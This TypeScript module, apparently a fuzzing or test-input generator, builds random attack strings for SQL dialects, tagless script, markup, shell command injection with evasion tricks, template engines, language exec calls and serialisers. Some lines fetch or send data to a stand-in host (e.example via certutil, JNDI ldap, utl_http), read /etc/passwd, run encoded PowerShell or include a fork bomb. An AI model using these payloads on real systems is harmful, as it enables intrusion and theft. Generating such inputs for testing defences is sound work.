// More attacks by grammar, on what interprets text: dialects of SQL, script without tags, shells and how their words are
// hidden, template engines, languages, serialisers. Each row stands for a form of which attackers vary the parts.

import type { Random } from './random.ts'

type Make = (random: Random) => string

const number = (r: Random): string => String(1 + r.below(9999))

const word = (r: Random): string => r.pick(['x', 'id', 'name', 'abc', 'q1', 'item'])

/** Forms of one dialect each, behind a number or a quote. */
const dialect: Make = (r) => {
  const n = number(r)
  const end = r.pick(['--', '-- -', '#', '-- x'])
  const call = r.pick([
    'version()',
    'user()',
    'database()',
    'current_setting(1)',
    '(select 1)',
    'sleep(5)',
    'pg_sleep(5)',
  ])
  return r.pick([
    `${n}' or data->>'a'='a'${end}`,
    `${n} or json_extract('{"a":1}','$.a')=1`,
    `${n} or jsonb_path_exists('{}','$.a')`,
    `${n}' group by ${word(r)} having 1=1${end}`,
    `${n} order by (select ${n})`,
    `${n} limit 1 into outfile '/tmp/${word(r)}'`,
    `${n} procedure analyse(extractvalue(1,concat(0x3a,${call})),1)`,
    `${n}e0union select ${n},2,3`,
    `${n} union(select(${n}),(2))`,
    `'-(${n})-'`,
    `'^(${n})^'`,
    `${word(r)}'|${n}!='4`,
    `${word(r)}'*${n}*'1`,
    `${n}' ${r.pick(['div', 'mod', 'xor', 'rlike', 'regexp', 'sounds like'])} '${n}`,
    `' union values(${n},2)${end}`,
    `${n} and (${n},2)=(${n},2)`,
    `${n} or 0b1=1`,
    `${n} or 1=@@version`,
    `${n}; ${r.pick(['show tables', 'describe users', 'flush privileges', 'use mysql', 'vacuum', 'lock tables x write'])}`,
    `${n}; prepare ${word(r)} from 'select 1'`,
    `${n} update users set ${word(r)}=1`,
    `'; if 1=1 drop table ${word(r)}${end}`,
    `'; copy (select ${n}) to program 'id'${end}`,
    `${n} and extractvalue(1,concat(0x7e,${call}))`,
    `${n}' || ${r.pick(["utl_http.request('http://e.example')", "dbms_pipe.receive_message('a',5)", "utl_inaddr.get_host_address('e.example')"])} || '`,
    `${n},${r.pick(['sleep(5)', '(select 1)', 'pg_sleep(5)'])}`,
    `${n}) as ${word(r)} where ${n}=${n} or ${n}=${n}${end}`,
    `case when ${n}=${n} then 1 else 0 end`,
    `ascii(substring(${r.pick(['version()', 'user()', 'database()'])},1,1))`,
  ])
}

const piece = (r: Random, name: string): string => {
  const cut = 1 + r.below(name.length - 1)
  const quote = r.pick(['"', "'"])
  return `${quote}${name.slice(0, cut)}${quote}+${quote}${name.slice(cut)}${quote}`
}

/** Script without a tag. */
const script: Make = (r) => {
  const name = r.pick(['alert', 'confirm', 'prompt'])
  const argument = r.pick(['1', 'document.domain', '/x/.source', "'x'", number(r)])
  const object = r.pick(['window', 'self', 'top', 'parent', 'this', 'globalThis'])
  return r.pick([
    `(${name})(${argument})`,
    `(0,${name})(${argument})`,
    `[${argument}].${r.pick(['map', 'find', 'some', 'every'])}(${name})`,
    `${name}.${r.pick(['call', 'apply', 'bind'])}(null,${argument})`,
    `a=${name},a(${argument})`,
    `${object}[${piece(r, name)}](${argument})`,
    `${word(r)}[${piece(r, name)}](${argument})`,
    `${number(r)});${name}(${argument});//`,
    `'};${name}(${argument});//`,
    `location=${piece(r, 'javascript')}+':${name}(1)'`,
    `${name}\`${number(r)}\``,
    `void(${name}(${argument}))`,
    `import('data:text/javascript,${name}(1)')`,
    `setTimeout(${piece(r, name)}+'(1)')`,
    `new Function(${piece(r, name)})()`,
    `?url=javascript:${name}(${argument})`,
    `x=1;throw onerror=${name},${number(r)}`,
    `top[/al/.source+/ert/.source](${argument})`,
    `[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]`,
  ])
}

/** Markup in other spellings. */
const markup: Make = (r) => {
  const call = r.pick(['alert(1)', 'confirm(1)', 'prompt(document.domain)'])
  const event = r.pick(['click', 'mouseover', 'focus', 'keydown'])
  return r.pick([
    `<x ${r.pick(['@', 'v-on:', 'ng-', 'x-on:'])}${event}="${call}">`,
    `<div style="x:\\65\\78pression(${call})">`,
    `<div style="x:e/**/xpression(${call})">`,
    `<body onload!#$%&=${call}>`,
    `<scr<b>ipt>${call}</scr</b>ipt>`,
    `<scrscriptipt>${call}</scrscriptipt>`,
    `<form><input name=${r.pick(['attributes', 'parentNode', 'nodeName', 'childNodes'])}>`,
    `<svg><use href="//e.example/x.svg#x"/></svg>`,
    `<a title="&{${call}}">x</a>`,
    `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    `< script >${call}</ script >`,
    `<meta charset=utf-7><b>x`,
    `${r.pick(['"', "'"])}><b>${word(r)}`,
    `</title><p>${word(r)}`,
    `${r.pick(['"', "'"])} style=x:expression(${call}) x=`,
    `<![CDATA[<]]>script<![CDATA[>]]>${call}<![CDATA[<]]>/script<![CDATA[>]]>`,
    `<x name=y ${r.pick(['scroll', 'event', 'text'])}=${call}>`,
    `&ltscript&gt${call}&lt/script&gt`,
  ])
}

const hidden: Make = (r) =>
  r.pick([
    "c'a't",
    'c""at',
    'c\\a\\t',
    'ca$@t',
    'c$()at',
    'c``at',
    '/bin/c[a]t',
    '/b?n/c?t',
    '${PATH:0:1}bin${PATH:0:1}cat',
    "$'cat'",
  ])

/** Words of a shell, hidden, and the places where it looks for commands. */
const evasion: Make = (r) => {
  const join = r.pick([';', '|', '&&', '||', '\n', '; '])
  const file = r.pick(['/etc/passwd', '/etc/hosts', '/proc/version'])
  const before = r.pick(['x', '127.0.0.1', 'a.txt'])
  return r.pick([
    `${before}${join}${hidden(r)} ${file}`,
    `${before}${join}{cat,${file}}`,
    `${before}${join}cat\${IFS}${file}`,
    `${before}${join}X=$'cat\\x20${file}';$X`,
    `${before}${join}a=c;b=at;$a$b ${file}`,
    `${before}${join}${r.pick(['sudo', 'nohup', 'time', 'env', 'timeout 5'])} whoami`,
    `${before}${join}. /tmp/${word(r)}.sh`,
    `${before}${join}echo $((${number(r)}+1))`,
    `${before}${join}base64 -d<<<aWQ=|sh`,
    `${before}\\nwhoami`,
    `LD_PRELOAD=/tmp/${word(r)}.so id`,
    `${before}${join}:(){ :|:& };:`,
    `${before}|${r.pick(['netsh firewall set opmode disable', 'ipconfig', 'systeminfo'])}`,
    `${before} & %ProgramData:~0,1%%ProgramData:~9,2% /c dir`,
    `${before} & p^o^w^e^r^s^h^e^l^l -nop -enc SQBFAFgA`,
    `${before}; [System.Diagnostics.Process]::Start('calc')`,
    `${before}; Get-ChildItem C:\\Users`,
    `pwsh -EncodedCommand SQBFAFgA${number(r)}`,
    `${before} & certutil -urlcache -split -f http://e.example/a.exe a.exe`,
    `wh''oami`,
  ])
}

/** Expressions of template engines. */
const expression: Make = (r) => {
  const n = number(r)
  return r.pick([
    `{% if ${n}*7==49 %}x{% endif %}`,
    `{% set x=${n}*7 %}`,
    `{%print ${n}*7%}`,
    `{% import os %}{{os.popen('id').read()}}`,
    `{% include '/etc/passwd' %}`,
    `{% debug %}`,
    `{% for x in [1,2,${n}] %}{{x}}{% endfor %}`,
    `{{settings.SECRET_KEY}}`,
    `{{['id']|${r.pick(['filter', 'map', 'sort', 'reduce'])}('system')}}`,
    `{{"id"|system}}`,
    `{{'/etc/passwd'|file_excerpt(1,${n})}}`,
    `{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}`,
    `{{#with "s" as |string|}}{{/with}}`,
    `{{(1).TYPE.forName('java.lang.Runtime')}}`,
    `{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"x",self::clearConfig())}`,
    `{var $X="${n}"}{$X}`,
    `{!! system('id') !!}`,
    `@php system('id') @endphp`,
    `<%= \`id\` %>`,
    `<%= Dir.entries('/') %>`,
    `<%\nimport os\nx=os.popen('id').read()\n%>`,
    `#foreach($i in [1..${n}])$i#end`,
    `#evaluate("x")`,
    `\${"freemarker.template.utility.Execute"?new()("id")}`,
    `\${new File('/etc/passwd').text}`,
    `\${sessionScope}`,
    `[[${n}*7]]`,
    `@(System.IO.Directory.GetFiles("c:\\\\"))`,
    `\${script:javascript:java.lang.Runtime.getRuntime().exec("id")}`,
    `\${\${date:'j'}\${date:'n'}di:ldap://e.example/a}`,
    `\${sys:java.version}`,
  ])
}

/** Statements of languages, named or not. */
const statement: Make = (r) => {
  const run = r.pick(["'id'", '"id"', "'whoami'"])
  return r.pick([
    `os.${r.pick(['system', 'popen'])}(${run})`,
    `subprocess.${r.pick(['Popen', 'call', 'check_output', 'run'])}([${run}])`,
    `().__class__.__bases__[0].__subclasses__()`,
    `getattr(__builtins__,'eval')('${number(r)}')`,
    `$_${r.pick(['GET', 'POST', 'REQUEST'])}['a']($_${r.pick(['GET', 'POST'])}['b'])`,
    `('sys'.'tem')(${run})`,
    `"system"(${run})`,
    `array_map('system',[${run}])`,
    `require('fs').readFileSync('/etc/passwd')`,
    `(function(){return process.env})()`,
    `[]["constructor"]["constructor"]("return process")()`,
    `while(1){}`,
    `${run}.execute().text`,
    `new java.util.Scanner(new java.io.File("/etc/passwd"))`,
    `IO.popen(${run})`,
    `%x(id)`,
    `send(:system,"id")`,
    `io.popen(${run})`,
    `System.Diagnostics.Process.Start("cmd")`,
    `CreateObject("WScript.Shell").Run("calc")`,
    `<%eval request("${word(r)}")%>`,
    `=cmd|' /C calc'!A${r.below(9)}`,
    `=${r.pick(['WEBSERVICE', 'HYPERLINK', 'IMPORTXML'])}("http://e.example/${number(r)}")`,
  ])
}

/** Objects of serialisers, and names that reach prototypes. */
const object: Make = (r) => {
  const name = r.pick(['Evil', 'Test', 'Foo_Bar'])
  return r.pick([
    `O:+${name.length}:"${name}":1:{s:1:"a";i:${number(r)};}`,
    `a:1:{i:0;O:${name.length}:"${name}":0:{}}`,
    `cposix\\nsystem\\n(S'id'\\ntR.`,
    `BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbg==`,
    `<map><entry><jdk.nashorn.internal.objects.NativeString>`,
    `<sorted-set><dynamic-proxy><handler class="java.beans.EventHandler">`,
    `["org.springframework.context.support.ClassPathXmlApplicationContext","http://e.example/${number(r)}"]`,
    `{"constructor":{"prototype":{"${word(r)}":1}}}`,
    `constructor[prototype][${word(r)}]=1`,
    `Object.prototype.${word(r)}=${number(r)}`,
    `${word(r)}.__proto__.${word(r)}=1`,
  ])
}

export const interpreters: Readonly<Record<string, Make>> = {
  dialect,
  script,
  markup,
  evasion,
  expression,
  statement,
  object,
}
